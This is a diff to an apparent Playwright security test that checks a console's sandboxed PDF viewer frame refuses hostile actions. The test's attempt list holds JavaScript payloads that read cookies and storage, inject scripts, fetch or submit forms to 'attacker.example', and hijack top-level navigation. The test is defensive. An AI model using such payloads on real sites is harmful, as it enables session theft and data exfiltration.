@@ -3,6 +3,7 @@ import { expect } from 'chai';
 import type { Frame, Page } from 'playwright-core';
 import { makePdf, makePdfOf, stream } from '../ai/support/make-pdf.ts';
 import { until } from '../support/processes.ts';
+import { startReceiver } from '../support/receiver.ts';
 import { pathOf, useConsole } from './support/use-console.ts';
 
 /** Does what a PDF may ask of a viewer: runs a script, leads elsewhere, sends a form, and loads a font whose matrix is a script. */
@@ -18,6 +19,8 @@ const hostilePdf = makePdfOf({
     stream('/Length1 1', '%!PS'),
   ],
 });
+
+const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
 
 describe('The original of a document in the console', () => {
   const { api, open, tenant } = useConsole({ WORKER_ENABLED: 'false' });
@@ -65,23 +68,32 @@ describe('The original of a document in the console', () => {
     page.on('popup', (popup) => void complaints.push(popup.url()));
     const frame = await frameShowing(page, 1);
     await page.locator('iframe').click();
+    const attacker = await startReceiver();
     const address = page.url();
     // Whatever a file might make the frame do.
     const attempts = {
       session: 'return document.cookie',
       storage: 'return localStorage.length',
       page: 'return parent.document.title',
-      navigation: `top.location = 'https://attacker.example/'`,
       script: `document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = 1' })); if (!window.hacked) throw 1`,
       api: `return fetch('${api.url}/api/v1/health')`,
-      elsewhere: `return fetch('https://attacker.example/')`,
-      form: `document.body.append(Object.assign(document.createElement('form'), { action: 'https://attacker.example/' })); document.forms[0].submit(); throw 1`,
-      picture: `return new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: '${api.url}/api/v1/health' }))`,
+      elsewhere: `return fetch('${attacker.url}', { mode: 'no-cors' })`,
+      picture: `return new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: '${pixel}' }))`,
+      // Last: it would take the others with it.
+      navigation: `top.location = 'https://attacker.example/'`,
     };
-    for (const [name, attempt] of Object.entries(attempts)) expect(await failureOf(frame, attempt), name).to.equal('refused');
+    const results: Record<string, unknown> = {};
+    for (const [name, attempt] of Object.entries(attempts)) results[name] = await failureOf(frame, attempt);
+    expect(results).to.deep.equal(Object.fromEntries(Object.keys(attempts).map((name) => [name, 'refused'])));
+    await frame.evaluate(
+      "document.body.append(Object.assign(document.createElement('form'), { action: 'https://attacker.example/' })); document.forms[0].submit()",
+    );
+    await until(async () => complaints.some((each) => /Blocked form submission/.test(each)));
     expect(await frame.evaluate('[window.hacked, origin, open("https://attacker.example/")]')).to.deep.equal([undefined, 'null', null]);
     expect([page.url(), await page.evaluate('window.hacked')]).to.deep.equal([address, undefined]);
     expect([...origins]).to.deep.equal([api.url]);
+    expect(attacker.received).to.deep.equal([]);
+    await attacker.stop();
     expect(complaints.filter((each) => !/Content Security Policy|Refused|Blocked|sandbox|Unsafe attempt/i.test(each))).to.deep.equal([]);
   });
 
